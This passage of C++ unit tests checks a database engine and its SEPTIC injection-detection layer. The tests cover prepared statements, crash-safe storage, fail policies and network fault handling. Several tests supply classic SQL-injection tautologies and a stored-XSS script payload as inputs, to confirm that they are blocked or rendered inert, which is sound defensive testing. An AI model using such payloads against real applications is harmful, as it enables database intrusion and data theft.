  EXPECT_EQ(rs.rows[0][0].as_int(), 20);
}

TEST_F(PreparedTest, InsertStoresValuesVerbatim) {
  db.execute_prepared(session, "INSERT INTO p (name, amount) VALUES (?, ?)",
                      {Value(std::string("pay'load\xca\xbc-- ")),
                       Value(int64_t{5})});
  auto rs = db.execute_prepared(session,
                                "SELECT name FROM p WHERE amount = ?",
                                {Value(int64_t{5})});
  ASSERT_EQ(rs.rows.size(), 1u);
  // Raw bytes intact: neither escaping nor charset conversion touched the
  // bound value.
  EXPECT_EQ(rs.rows[0][0].as_string(), "pay'load\xca\xbc-- ");
}

TEST_F(PreparedTest, InjectionThroughParamIsInert) {
  // The classic proof: a tautology bound as a parameter is just a string.
  auto rs = db.execute_prepared(session,
                                "SELECT amount FROM p WHERE name = ?",
                                {Value(std::string("a' OR '1'='1"))});
  EXPECT_TRUE(rs.rows.empty());
}

TEST_F(PreparedTest, ParamCountMismatchRejected) {
  EXPECT_THROW(db.execute_prepared(session,
                                   "SELECT amount FROM p WHERE name = ?", {}),
               DbError);
  EXPECT_THROW(
      db.execute_prepared(session, "SELECT amount FROM p WHERE name = ?",
                          {Value(std::string("a")), Value(int64_t{2})}),
      DbError);
}

TEST_F(PreparedTest, UnboundPlaceholderInDirectExecuteRejected) {
  EXPECT_THROW(db.execute(session, "SELECT amount FROM p WHERE name = ?"),
               DbError);
}

TEST_F(PreparedTest, MultiplePlaceholdersPositional) {
  auto rs = db.execute_prepared(
      session, "SELECT name FROM p WHERE amount > ? AND amount < ?",
      {Value(int64_t{5}), Value(int64_t{15})});
  ASSERT_EQ(rs.rows.size(), 1u);
  EXPECT_EQ(rs.rows[0][0].as_string(), "a");
}

TEST_F(PreparedTest, UpdateAndDeletePrepared) {
  auto up = db.execute_prepared(session,
                                "UPDATE p SET amount = ? WHERE name = ?",
                                {Value(int64_t{99}), Value(std::string("a"))});
  EXPECT_EQ(up.affected_rows, 1);
  auto del = db.execute_prepared(session, "DELETE FROM p WHERE amount = ?",
                                 {Value(int64_t{99})});
  EXPECT_EQ(del.affected_rows, 1);
}

TEST_F(PreparedTest, SepticSeesBoundValuesAsDataNodes) {
  auto septic = std::make_shared<core::Septic>();
  db.set_interceptor(septic);
  septic->set_mode(core::Mode::kTraining);
  db.execute_prepared(session, "SELECT amount FROM p WHERE name = ?",
                      {Value(std::string("a"))});
  EXPECT_EQ(septic->store().model_count(), 1u);

  septic->set_mode(core::Mode::kPrevention);
  // Any bound string matches the STRING_ITEM ⊥ slot: benign by construction.
  EXPECT_NO_THROW(db.execute_prepared(
      session, "SELECT amount FROM p WHERE name = ?",
      {Value(std::string("x' OR '1'='1"))}));
}

TEST_F(PreparedTest, SepticStoredPluginsStillInspectBoundValues) {
  auto septic = std::make_shared<core::Septic>();
  db.set_interceptor(septic);
  septic->set_mode(core::Mode::kPrevention);
  // SQLI through a prepared INSERT is impossible, but a stored-XSS payload
  // in a bound value must still be caught by the plugins.
  EXPECT_THROW(
      db.execute_prepared(session,
                          "INSERT INTO p (name, amount) VALUES (?, ?)",
                          {Value(std::string("<script>alert(1)</script>")),
                           Value(int64_t{1})}),
      DbError);
  EXPECT_EQ(septic->stats().stored_detected, 1u);
}

TEST_F(PreparedTest, TemplateTextStillCharsetConverted) {
  // The template is statement text: confusables in it DO decode. (Only
  // bound values are exempt.) A template with a fullwidth '=' parses.
  auto rs = db.execute_prepared(
      session, std::string("SELECT amount FROM p WHERE name \xef\xbc\x9d ?"),
      {Value(std::string("a"))});
  ASSERT_EQ(rs.rows.size(), 1u);
}

}  // namespace
}  // namespace septic::engine

// Fault-tolerance suite: failpoint-driven crash/corruption/flaky-network
// scenarios. The lifecycle the paper's demo depends on — train → persist →
// restart in prevention mode → reload — must survive torn writes, corrupt
// stores, throwing detectors, and flapping sockets.
#include <gtest/gtest.h>

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include <memory>
#include <thread>

#include "common/atomic_file.h"
#include "common/failpoint.h"
#include "common/hash.h"
#include "engine/database.h"
#include "engine/error.h"
#include "net/client.h"
#include "net/server.h"
#include "septic/septic.h"
#include "sqlcore/parser.h"

namespace septic {
namespace {

namespace fp = common::failpoints;

core::QueryModel model_of(std::string_view q) {
  return core::make_query_model(
      sql::build_item_stack(sql::parse(q).statement));
}

bool file_exists(const std::string& path) {
  struct stat st{};
  return ::stat(path.c_str(), &st) == 0;
}

std::string temp_path(const char* name) {
  return std::string("/tmp/septic_faults_") + name + "." +
         std::to_string(::getpid());
}

class FaultTest : public ::testing::Test {
 protected:
  void TearDown() override { fp::disarm_all(); }
};

// ------------------------------------------------------------ failpoints

TEST_F(FaultTest, FailpointArmFireDisarm) {
  ASSERT_TRUE(fp::compiled_in());
  EXPECT_FALSE(fp::should_fail("ft.basic"));
  fp::arm("ft.basic");
  EXPECT_TRUE(fp::should_fail("ft.basic"));
  EXPECT_TRUE(fp::should_fail("ft.basic"));  // unlimited until disarmed
  EXPECT_EQ(fp::hit_count("ft.basic"), 2u);
  fp::disarm("ft.basic");
  EXPECT_FALSE(fp::should_fail("ft.basic"));
  EXPECT_EQ(fp::hit_count("ft.basic"), 2u);  // counts survive disarm
}

TEST_F(FaultTest, FailpointBoundedShots) {
  fp::arm("ft.twice", 2);
  EXPECT_TRUE(fp::should_fail("ft.twice"));
  EXPECT_TRUE(fp::should_fail("ft.twice"));
  EXPECT_FALSE(fp::should_fail("ft.twice"));  // auto-disarmed
  EXPECT_EQ(fp::hit_count("ft.twice"), 2u);
}

TEST_F(FaultTest, FailpointSpecParsing) {
  fp::arm_from_spec("ft.a,ft.b:1");
  EXPECT_EQ(fp::armed().size(), 2u);
  EXPECT_TRUE(fp::should_fail("ft.b"));
  EXPECT_FALSE(fp::should_fail("ft.b"));
  EXPECT_TRUE(fp::should_fail("ft.a"));
  EXPECT_TRUE(fp::should_fail("ft.a"));
}

TEST_F(FaultTest, FailpointMacroThrows) {
  fp::arm("ft.macro", 1);
  auto site = [] { SEPTIC_FAILPOINT("ft.macro"); };
  EXPECT_THROW(site(), fp::FailpointTriggered);
  EXPECT_NO_THROW(site());
}

// ------------------------------------------------------------------ crc32

TEST_F(FaultTest, Crc32KnownVectors) {
  EXPECT_EQ(common::crc32(""), 0u);
  EXPECT_EQ(common::crc32("123456789"), 0xcbf43926u);
  // Streaming matches one-shot.
  uint32_t partial = common::crc32("12345");
  EXPECT_EQ(common::crc32("6789", partial), 0xcbf43926u);
  EXPECT_EQ(common::to_hex32(0xcbf43926u), "cbf43926");
}

// --------------------------------------------------- crash-safe QM store

TEST_F(FaultTest, SaveIsAtomicUnderPartialWriteCrash) {
  const std::string path = temp_path("atomic");
  core::QmStore store;
  store.add("id1", model_of("SELECT a FROM t WHERE b = 1"));
  store.save_to_file(path);

  // Grow the store, then crash mid-save: torn bytes land in the temp
  // file only. The acceptance bar: the store file on disk is the OLD one
  // or the NEW one — never a torn mixture.
  store.add("id2", model_of("DELETE FROM t WHERE id = 2"));
  fp::arm("qm_store.save.partial_write", 1);
  EXPECT_THROW(store.save_to_file(path), std::runtime_error);

  core::QmStore reloaded;
  core::QmLoadReport report = reloaded.load_from_file(path);
  EXPECT_TRUE(report.clean());
  EXPECT_EQ(report.loaded, 1u);  // the old, complete store
  EXPECT_EQ(reloaded.model_count(), 1u);

  // The next save heals: temp is rewritten whole and renamed into place.
  store.save_to_file(path);
  report = reloaded.load_from_file(path);
  EXPECT_TRUE(report.clean());
  EXPECT_EQ(report.loaded, 2u);
  EXPECT_FALSE(file_exists(path + ".tmp"));
}

TEST_F(FaultTest, AtomicWriteCrashBeforeRenameKeepsOldFileComplete) {
  const std::string path = temp_path("ren");
  common::atomic_write_file(path, "v1");
  // Crash after the tmp is written+fsynced but before the rename: the
  // visible file must still be the complete old image.
  fp::arm("atomic_file.rename", 1);
  EXPECT_THROW(common::atomic_write_file(path, "v2"),
               fp::FailpointTriggered);
  EXPECT_EQ(common::read_file(path), "v1");
  // The orphaned tmp is harmless and rewritten whole by the next save.
  common::atomic_write_file(path, "v3");
  EXPECT_EQ(common::read_file(path), "v3");
  ::unlink((path + ".tmp").c_str());
  ::unlink(path.c_str());
}

TEST_F(FaultTest, AtomicWriteCrashBeforeDirFsyncHasNewFileInPlace) {
  const std::string path = temp_path("dirsync");
  common::atomic_write_file(path, "v1");
  // Crash between the rename and the directory fsync: the rename already
  // happened, so this process (and any reboot that retained it) sees the
  // complete NEW image; a reboot that lost the un-fsynced rename would
  // see the complete OLD one. Either way no torn state, no stray tmp.
  fp::arm("atomic_file.dir_fsync", 1);
  EXPECT_THROW(common::atomic_write_file(path, "v2"),
               fp::FailpointTriggered);
  EXPECT_EQ(common::read_file(path), "v2");
  EXPECT_FALSE(file_exists(path + ".tmp"));
  ::unlink(path.c_str());
}

TEST_F(FaultTest, SaveIoErrorLeavesOldFileIntact) {
  const std::string path = temp_path("ioerr");
  core::QmStore store;
  store.add("id1", model_of("SELECT a FROM t WHERE b = 1"));
  store.save_to_file(path);
  fp::arm("qm_store.save.io_error", 1);
  EXPECT_THROW(store.save_to_file(path), std::runtime_error);
  core::QmStore reloaded;
  EXPECT_EQ(reloaded.load_from_file(path).loaded, 1u);
}

TEST_F(FaultTest, SalvageLoaderRecoversValidPrefixOfTruncatedStore) {
  const std::string path = temp_path("torn");
  core::QmStore store;
  store.add("a", model_of("SELECT a FROM t WHERE b = 1"));
  store.add("b", model_of("SELECT a FROM t WHERE b = 'x'"));
  store.add("c", model_of("DELETE FROM t WHERE id = 1"));
  store.save_to_file(path);

  // Tear the tail off mid-record, as a crashed non-atomic writer or a bad
  // sector would.
  std::string data = common::read_file(path);
  common::write_file_raw(path, data.substr(0, data.size() - 7));

  core::QmStore salvaged;
  core::QmLoadReport report = salvaged.load_from_file(path);
  EXPECT_EQ(report.version, 2);
  EXPECT_EQ(report.loaded, 2u);   // every CRC-valid record survives
  EXPECT_EQ(report.skipped, 1u);  // the torn one is counted, not fatal
  EXPECT_FALSE(report.clean());
  EXPECT_NE(report.detail.find("CRC"), std::string::npos);
  EXPECT_EQ(salvaged.model_count(), 2u);
}

TEST_F(FaultTest, SalvageLoaderSkipsCorruptMiddleRecord) {
  const std::string path = temp_path("middle");
  core::QmStore store;
  store.add("a", model_of("SELECT a FROM t WHERE b = 1"));
  store.add("b", model_of("SELECT a FROM t WHERE b = 'x'"));
  store.add("c", model_of("DELETE FROM t WHERE id = 1"));
  store.save_to_file(path);

  // Flip one byte inside the middle record's model text.
  std::string data = common::read_file(path);
  size_t second_line = data.find('\n', data.find('\n') + 1) + 1;
  size_t mid = data.find('\t', data.find('\t', second_line) + 1) + 2;
  data[mid] = data[mid] == 'Z' ? 'Y' : 'Z';
  common::write_file_raw(path, data);

  core::QmStore salvaged;
  core::QmLoadReport report = salvaged.load_from_file(path);
  EXPECT_EQ(report.loaded, 2u);
  EXPECT_EQ(report.skipped, 1u);
}

TEST_F(FaultTest, LegacyV1StoreStillLoads) {
  const std::string path = temp_path("v1");
  core::QmStore store;
  store.add("old-id", model_of("SELECT a FROM t WHERE b = 1"));
  common::write_file_raw(path, store.serialize());  // headerless v1 text

  core::QmStore loaded;
  core::QmLoadReport report = loaded.load_from_file(path);
  EXPECT_EQ(report.version, 1);
  EXPECT_EQ(report.loaded, 1u);
  EXPECT_TRUE(report.clean());
  core::QmStore::ModelSet set = loaded.snapshot("old-id");
  ASSERT_TRUE(set);
  EXPECT_EQ(set->size(), 1u);
}

TEST_F(FaultTest, UnknownFormatVersionRefusedOutright) {
  const std::string path = temp_path("v99");
  common::write_file_raw(path, "SEPTICQM 99\nwhatever\n");
  core::QmStore store;
  EXPECT_THROW(store.load_from_file(path), std::runtime_error);
}

TEST_F(FaultTest, SepticLoadModelsReportsSalvage) {
  const std::string path = temp_path("septic_salvage");
  auto septic = std::make_shared<core::Septic>();
  septic->store().add("a", model_of("SELECT a FROM t WHERE b = 1"));
  septic->store().add("b", model_of("DELETE FROM t WHERE id = 1"));
  septic->save_models(path);

  std::string data = common::read_file(path);
  common::write_file_raw(path, data.substr(0, data.size() - 5));

  auto fresh = std::make_shared<core::Septic>();
  core::QmLoadReport report = fresh->load_models(path);
  EXPECT_EQ(report.loaded, 1u);
  EXPECT_EQ(report.skipped, 1u);
  auto events = fresh->event_log().events_of(core::EventKind::kModelLoaded);
  ASSERT_EQ(events.size(), 1u);
  EXPECT_NE(events[0].detail.find("salvage"), std::string::npos);
}

// ------------------------------------------------------ event-log bounds

TEST_F(FaultTest, EventLogRingDropsOldestPastCapacity) {
  core::EventLog log;
  log.set_capacity(10);
  for (int i = 0; i < 25; ++i) {
    core::Event e;
    e.kind = core::EventKind::kQueryProcessed;
    e.query_id = "q" + std::to_string(i);
    log.record(std::move(e));
  }
  EXPECT_EQ(log.size(), 10u);
  EXPECT_EQ(log.dropped_events(), 15u);
  auto events = log.events();
  EXPECT_EQ(events.front().query_id, "q15");  // oldest survivors
  EXPECT_EQ(events.back().query_id, "q24");
  EXPECT_EQ(events.back().seq, 25u);  // seq keeps counting across drops
}

TEST_F(FaultTest, EventLogTeeFailureDisablesFileNotQueries) {
  const std::string path = temp_path("tee");
  core::EventLog log;
  log.tee_to_file(path);
  fp::arm("event_log.tee.write_error", 1);
  core::Event e;
  e.kind = core::EventKind::kQueryProcessed;
  EXPECT_NO_THROW(log.record(std::move(e)));  // absorbed, never thrown
  EXPECT_EQ(log.file_errors(), 1u);
  core::Event e2;
  e2.kind = core::EventKind::kQueryProcessed;
  EXPECT_NO_THROW(log.record(std::move(e2)));  // tee now off, ring still on
  EXPECT_EQ(log.size(), 2u);
}

// -------------------------------------------------- fail-policy boundary

class FailPolicyTest : public FaultTest {
 protected:
  void SetUp() override {
    db.execute_admin("CREATE TABLE fp (id INT PRIMARY KEY, v TEXT)");
    db.execute_admin("INSERT INTO fp VALUES (1, 'one')");
    septic = std::make_shared<core::Septic>();
    db.set_interceptor(septic);
    septic->set_mode(core::Mode::kTraining);
    db.execute_admin("SELECT v FROM fp WHERE id = 1");  // train the model
    septic->set_mode(core::Mode::kPrevention);
  }

  engine::Database db;
  std::shared_ptr<core::Septic> septic;
};

TEST_F(FailPolicyTest, DetectorThrowFailClosedDropsQuery) {
  septic->set_fail_policy(core::FailPolicy::kFailClosed);
  fp::arm("septic.detector.throw", 1);
  try {
    db.execute_admin("SELECT v FROM fp WHERE id = 2");
    FAIL() << "fail-closed must drop the query";
  } catch (const engine::DbError& e) {
    EXPECT_EQ(e.code(), engine::ErrorCode::kBlocked);
    EXPECT_NE(std::string(e.what()).find("internal error"), std::string::npos);
  }
  EXPECT_EQ(septic->stats().septic_internal_errors, 1u);
  EXPECT_EQ(
      septic->event_log().count_of(core::EventKind::kInternalError), 1u);
  // SEPTIC keeps working: the next (benign, trained) query flows through.
  EXPECT_NO_THROW(db.execute_admin("SELECT v FROM fp WHERE id = 1"));
}

TEST_F(FailPolicyTest, DetectorThrowFailOpenExecutesQuery) {
  septic->set_fail_policy(core::FailPolicy::kFailOpen);
  uint64_t executed_before = db.executed_count();
  fp::arm("septic.detector.throw", 1);
  EXPECT_NO_THROW(db.execute_admin("SELECT v FROM fp WHERE id = 2"));
  EXPECT_EQ(db.executed_count(), executed_before + 1);
  EXPECT_EQ(septic->stats().septic_internal_errors, 1u);
  EXPECT_EQ(
      septic->event_log().count_of(core::EventKind::kInternalError), 1u);
}

TEST_F(FailPolicyTest, PluginThrowRespectsPolicyToo) {
  septic->set_fail_policy(core::FailPolicy::kFailClosed);
  fp::arm("septic.plugin.throw", 1);
  EXPECT_THROW(db.execute_admin("SELECT v FROM fp WHERE id = 1"),
               engine::DbError);
  EXPECT_EQ(septic->stats().septic_internal_errors, 1u);
}

TEST_F(FailPolicyTest, DispatchThrowCoversWholePipeline) {
  septic->set_fail_policy(core::FailPolicy::kFailOpen);
  fp::arm("septic.dispatch.throw", 1);
  EXPECT_NO_THROW(db.execute_admin("SELECT v FROM fp WHERE id = 1"));
  EXPECT_EQ(septic->stats().septic_internal_errors, 1u);
}

TEST_F(FailPolicyTest, ServerSurvivesDetectorThrowAcrossConnections) {
  net::Server server(db, 0);
  server.start();
  septic->set_fail_policy(core::FailPolicy::kFailClosed);
  fp::arm("septic.detector.throw", 1);
  {
    net::Client c(server.port());
    try {
      c.query("SELECT v FROM fp WHERE id = 3");
      FAIL() << "expected BLOCKED";
    } catch (const net::RemoteError& e) {
      EXPECT_TRUE(e.blocked());
    }
  }
  EXPECT_EQ(septic->stats().septic_internal_errors, 1u);
  // A fresh connection is served normally afterwards.
  net::Client c2(server.port());
  EXPECT_NO_THROW(c2.query("SELECT v FROM fp WHERE id = 1"));
  server.stop();
}

// A third-party interceptor (not SEPTIC) that lets an exception escape
// on_query. The engine's last-resort boundary must convert it into
// ErrorCode::kInternal instead of unwinding arbitrary exception types
// through the connection loop.
TEST_F(FaultTest, EngineWrapsForeignInterceptorExceptions) {
  struct ThrowingGuard : engine::QueryInterceptor {
    engine::InterceptDecision on_query(const engine::QueryEvent&) override {
      throw std::runtime_error("guard exploded");
    }
  };
  engine::Database db;
  db.execute_admin("CREATE TABLE g (id INT PRIMARY KEY)");
  db.set_interceptor(std::make_shared<ThrowingGuard>());
  try {
    db.execute_admin("SELECT id FROM g");
    FAIL() << "expected DbError";
  } catch (const engine::DbError& e) {
    EXPECT_EQ(e.code(), engine::ErrorCode::kInternal);
    EXPECT_NE(std::string(e.what()).find("guard exploded"), std::string::npos);
  }
}

// ------------------------------------------------------ hardened network

class NetFaultTest : public FaultTest {
 protected:
  void SetUp() override {
    db.execute_admin("CREATE TABLE nf (id INT PRIMARY KEY, v TEXT)");
    db.execute_admin("INSERT INTO nf VALUES (1, 'one')");
  }
  engine::Database db;
};

TEST_F(NetFaultTest, ClientRetriesThroughFlappingServer) {
  net::Server server(db, 0);
  server.start();
  // The server drops the first two exchanges on the floor mid-frame (a
  // crashing proxy, a flaky NIC); the third lands.
  fp::arm("net.server.recv.drop", 2);
  net::Client c(server.port());
  net::RetryPolicy policy;
  policy.max_attempts = 5;
  policy.base_backoff_ms = 1;
  policy.max_backoff_ms = 4;
  std::string reply = c.query_with_retry("SELECT v FROM nf WHERE id = 1",
                                         policy);
  EXPECT_NE(reply.find("one"), std::string::npos);
  EXPECT_EQ(c.retries(), 2u);
  server.stop();
}

TEST_F(NetFaultTest, RetryGivesUpAfterMaxAttempts) {
  net::Server server(db, 0);
  server.start();
  fp::arm("net.server.recv.drop");  // every exchange dropped
  net::Client c(server.port());
  net::RetryPolicy policy;
  policy.max_attempts = 3;
  policy.base_backoff_ms = 1;
  policy.max_backoff_ms = 2;
  EXPECT_THROW(c.query_with_retry("SELECT v FROM nf WHERE id = 1", policy),
               std::runtime_error);
  EXPECT_EQ(c.retries(), 2u);  // attempts - 1
  server.stop();
}

TEST_F(NetFaultTest, BlockedVerdictIsNeverRetried) {
  auto septic = std::make_shared<core::Septic>();
  db.set_interceptor(septic);
  septic->set_mode(core::Mode::kTraining);
  db.execute_admin("SELECT v FROM nf WHERE id = 1");
  septic->set_mode(core::Mode::kPrevention);
  net::Server server(db, 0);
  server.start();
  net::Client c(server.port());
  uint64_t seen_before = septic->stats().queries_seen;
  try {
    c.query_with_retry("SELECT v FROM nf WHERE id = 1 OR 1 = 1");
    FAIL() << "expected BLOCKED";
  } catch (const net::RemoteError& e) {
    EXPECT_TRUE(e.blocked());
  }
  // Exactly one attempt reached SEPTIC: a drop is a verdict, not a fault.
  EXPECT_EQ(septic->stats().queries_seen, seen_before + 1);
  EXPECT_EQ(c.retries(), 0u);
  server.stop();
  db.set_interceptor(nullptr);
}

TEST_F(NetFaultTest, ConnectionCapRejectsGracefullyAndRecovers) {
  net::ServerOptions opts;
  opts.max_connections = 2;
  net::Server server(db, 0, opts);
  server.start();
  net::Client a(server.port());
  net::Client b(server.port());
  // Nail both connections down with a query each so they are live.
  a.query("SELECT v FROM nf WHERE id = 1");
  b.query("SELECT v FROM nf WHERE id = 1");
  // Third connection: read the BUSY frame on a raw socket (the server
  // volunteers it before closing — no request needed, so no race with the
  // RST discarding it).
  {
    int fd = ::socket(AF_INET, SOCK_STREAM, 0);
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    addr.sin_port = htons(server.port());
    ASSERT_EQ(::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)),
              0);
    net::FrameDecoder dec;
    char buf[256];
    std::optional<net::Frame> reply;
    for (;;) {
      ssize_t n = ::recv(fd, buf, sizeof(buf), 0);
      if (n <= 0) break;
      dec.feed(std::string_view(buf, static_cast<size_t>(n)));
      if ((reply = dec.next())) break;
    }
    ::close(fd);
    ASSERT_TRUE(reply.has_value());
    EXPECT_EQ(reply->op, net::Opcode::kError);
    net::RemoteError e(reply->payload);
    EXPECT_TRUE(e.busy());
    EXPECT_FALSE(e.blocked());
  }
  EXPECT_EQ(server.connections_rejected(), 1u);
  // Capacity freed -> new clients are welcome again.
  a.quit();
  b.quit();
  for (int i = 0; i < 200 && server.active_connections() > 0; ++i) {
    std::this_thread::sleep_for(std::chrono::milliseconds(1));
  }
  net::Client d(server.port());
  EXPECT_NO_THROW(d.query("SELECT v FROM nf WHERE id = 1"));
  server.stop();
}

TEST_F(NetFaultTest, BusyIsRetriedUntilCapacityFrees) {
  net::ServerOptions opts;
  opts.max_connections = 1;
  net::Server server(db, 0, opts);
  server.start();
  auto holder = std::make_unique<net::Client>(server.port());
  holder->query("SELECT v FROM nf WHERE id = 1");
  std::thread releaser([&] {
    std::this_thread::sleep_for(std::chrono::milliseconds(30));
    holder.reset();  // frees the only slot
  });
  net::Client c(server.port());  // accepted socket, but over cap on use
  net::RetryPolicy policy;
  policy.max_attempts = 50;
  policy.base_backoff_ms = 4;
  policy.max_backoff_ms = 16;
  std::string reply =
      c.query_with_retry("SELECT v FROM nf WHERE id = 1", policy);
  EXPECT_NE(reply.find("one"), std::string::npos);
  releaser.join();
  server.stop();
}

TEST_F(NetFaultTest, OversizedFrameGuardIsPerServerConfigurable) {
  net::ServerOptions opts;
  opts.max_frame_size = 64;
  net::Server server(db, 0, opts);
  server.start();
  net::Client c(server.port());
  std::string big_query = "SELECT v FROM nf WHERE v = '" +
                          std::string(500, 'x') + "'";
  try {
    c.query(big_query);
    FAIL() << "expected FRAME_TOO_LARGE";
  } catch (const net::RemoteError& e) {
    EXPECT_NE(std::string(e.what()).find("FRAME_TOO_LARGE"),
              std::string::npos);
  }
  // Small frames still work on a fresh connection.
  net::Client c2(server.port());
  EXPECT_NO_THROW(c2.query("SELECT v FROM nf WHERE id = 1"));
  server.stop();
}

TEST_F(NetFaultTest, IdleTimeoutReapsSilentConnections) {
  net::ServerOptions opts;
  opts.idle_timeout_ms = 50;
  net::Server server(db, 0, opts);
  server.start();
  net::Client c(server.port());
  EXPECT_NO_THROW(c.query("SELECT v FROM nf WHERE id = 1"));
  // Go silent past the idle deadline; the server closes us.
  std::this_thread::sleep_for(std::chrono::milliseconds(200));
  EXPECT_THROW(c.query("SELECT v FROM nf WHERE id = 1"), std::runtime_error);
  // The server itself is fine.
  net::Client c2(server.port());
  EXPECT_NO_THROW(c2.query("SELECT v FROM nf WHERE id = 1"));
  server.stop();
}

TEST_F(NetFaultTest, ConnectFailureIsPromptAndClean) {
  // The Client is loopback-only, so a black-hole address (where the
  // connect_timeout_ms deadline would tick down) is out of reach; a port
  // nobody listens on at least pins the non-blocking connect path: prompt
  // refusal surfaced as the usual transport exception.
  net::ClientOptions copts;
  copts.connect_timeout_ms = 100;
  EXPECT_THROW(net::Client(1, copts), std::runtime_error);
}

TEST_F(NetFaultTest, ServerStopWithLiveConnectionsIsClean) {
  net::Server server(db, 0);
  server.start();
  std::vector<std::unique_ptr<net::Client>> clients;
  for (int i = 0; i < 8; ++i) {
    clients.push_back(std::make_unique<net::Client>(server.port()));
    clients.back()->query("SELECT v FROM nf WHERE id = 1");
  }
  // Stop with all 8 connections still open: every worker must be joined,
  // every fd closed exactly once (TSan hunts the old double-owner race).
  server.stop();
  for (auto& c : clients) {
    EXPECT_THROW(c->query("SELECT 1"), std::runtime_error);
  }
}

}  // namespace
}  // namespace septic

// SHOW TABLES / DESCRIBE / TRUNCATE statements plus the event-register
// file sink.
#include <gtest/gtest.h>

#include <cstdio>
#include <fstream>
#include <memory>

#include "engine/database.h"
#include "engine/error.h"
#include "septic/septic.h"
#include "sqlcore/item.h"
#include "sqlcore/parser.h"

namespace septic::engine {
namespace {

class MetaTest : public ::testing::Test {
 protected:
  void SetUp() override {
    db.execute_admin(
        "CREATE TABLE alpha (id INT PRIMARY KEY AUTO_INCREMENT, "
        "name TEXT NOT NULL, score DOUBLE DEFAULT 1.5)");
    db.execute_admin("CREATE TABLE beta (x INT)");
    db.execute_admin("INSERT INTO alpha (name) VALUES ('a'), ('b')");
  }
  Database db;
  Session session;
};

TEST_F(MetaTest, ShowTablesListsAll) {
  auto rs = db.execute(session, "SHOW TABLES");
  ASSERT_EQ(rs.columns.size(), 1u);
  ASSERT_EQ(rs.rows.size(), 2u);
  EXPECT_EQ(rs.rows[0][0].as_string(), "alpha");
  EXPECT_EQ(rs.rows[1][0].as_string(), "beta");
}

TEST_F(MetaTest, DescribeReportsSchema) {
  auto rs = db.execute(session, "DESCRIBE alpha");
  ASSERT_EQ(rs.rows.size(), 3u);
  EXPECT_EQ(rs.rows[0][0].as_string(), "id");
  EXPECT_EQ(rs.rows[0][1].as_string(), "INT");
  EXPECT_EQ(rs.rows[0][3].as_string(), "PRI");
  EXPECT_EQ(rs.rows[0][5].as_string(), "auto_increment");
  EXPECT_EQ(rs.rows[1][2].as_string(), "NO");  // name NOT NULL
  EXPECT_DOUBLE_EQ(rs.rows[2][4].coerce_double(), 1.5);  // default
}

TEST_F(MetaTest, DescribeAliasDescWorks) {
  auto rs = db.execute(session, "DESC alpha");
  EXPECT_EQ(rs.rows.size(), 3u);
}

TEST_F(MetaTest, DescribeUnknownTableFails) {
  EXPECT_THROW(db.execute(session, "DESCRIBE ghost"), DbError);
}

TEST_F(MetaTest, TruncateEmptiesAndResetsAutoIncrement) {
  auto rs = db.execute(session, "TRUNCATE TABLE alpha");
  EXPECT_EQ(rs.affected_rows, 2);
  EXPECT_EQ(db.execute(session, "SELECT COUNT(*) FROM alpha")
                .rows[0][0]
                .as_int(),
            0);
  db.execute(session, "INSERT INTO alpha (name) VALUES ('fresh')");
  EXPECT_EQ(db.execute(session, "SELECT id FROM alpha").rows[0][0].as_int(),
            1);  // counter reset, like MySQL TRUNCATE
}

TEST_F(MetaTest, TruncateWithoutTableKeyword) {
  EXPECT_NO_THROW(db.execute(session, "TRUNCATE beta"));
}

TEST_F(MetaTest, TruncateUnknownTableFails) {
  EXPECT_THROW(db.execute(session, "TRUNCATE ghost"), DbError);
}

TEST_F(MetaTest, MetadataStatementsFlowThroughSeptic) {
  auto septic = std::make_shared<core::Septic>();
  db.set_interceptor(septic);
  septic->set_mode(core::Mode::kTraining);
  db.execute(session, "SHOW TABLES");
  db.execute(session, "DESCRIBE alpha");
  EXPECT_EQ(septic->store().model_count(), 2u);

  septic->set_mode(core::Mode::kPrevention);
  EXPECT_NO_THROW(db.execute(session, "SHOW TABLES"));
  EXPECT_NO_THROW(db.execute(session, "DESCRIBE alpha"));
  // TRUNCATE was never trained; strict mode blocks it — the DDL-guard
  // deployment pattern.
  septic->set_incremental_learning(false);
  EXPECT_THROW(db.execute(session, "TRUNCATE alpha"), DbError);
}

TEST(MetaStacks, ItemStacksForMetadataStatements) {
  auto stack = sql::build_item_stack(sql::parse("DESCRIBE t").statement);
  ASSERT_EQ(stack.nodes.size(), 1u);
  EXPECT_EQ(stack.nodes[0].type, sql::ItemType::kFromTable);
  EXPECT_EQ(stack.kind, sql::StatementKind::kDescribe);

  auto show = sql::build_item_stack(sql::parse("SHOW TABLES").statement);
  EXPECT_TRUE(show.nodes.empty());
  EXPECT_EQ(show.kind, sql::StatementKind::kShowTables);
}

TEST(MetaParse, ToSqlRoundTrip) {
  EXPECT_EQ(sql::statement_to_sql(sql::parse("show tables").statement),
            "SHOW TABLES");
  EXPECT_EQ(sql::statement_to_sql(sql::parse("truncate table t").statement),
            "TRUNCATE TABLE t");
  EXPECT_EQ(sql::statement_to_sql(sql::parse("describe t").statement),
            "DESCRIBE t");
}

TEST(EventLogFile, TeeWritesFormattedLines) {
  const std::string path = "/tmp/septic_test_events.log";
  std::remove(path.c_str());

  core::EventLog log;
  log.tee_to_file(path);
  core::Event e;
  e.kind = core::EventKind::kSqliDetected;
  e.attack_type = "SQLI";
  e.query = "SELECT 1 OR 1=1";
  log.record(std::move(e));
  log.tee_to_file("");  // stop logging (flush + close)

  std::ifstream in(path);
  ASSERT_TRUE(in.good());
  std::string line;
  ASSERT_TRUE(std::getline(in, line));
  EXPECT_NE(line.find("SQLI_DETECTED"), std::string::npos);
  EXPECT_NE(line.find("SELECT 1 OR 1=1"), std::string::npos);
}

TEST(EventLogFile, AppendsAcrossSessions) {
  const std::string path = "/tmp/septic_test_events2.log";
  std::remove(path.c_str());
  {
    core::EventLog log;
    log.tee_to_file(path);
    core::Event e;
    e.kind = core::EventKind::kModeChanged;
    log.record(std::move(e));
  }
  {
    core::EventLog log;
    log.tee_to_file(path);
    core::Event e;
    e.kind = core::EventKind::kModelLoaded;
    log.record(std::move(e));
  }
  std::ifstream in(path);
  size_t lines = 0;
  std::string line;
  while (std::getline(in, line)) ++lines;
  EXPECT_EQ(lines, 2u);
}

TEST(EventLogFile, BadPathThrows) {
  core::EventLog log;
  EXPECT_THROW(log.tee_to_file("/nonexistent-dir/x.log"),
               std::runtime_error);
}

}  // namespace
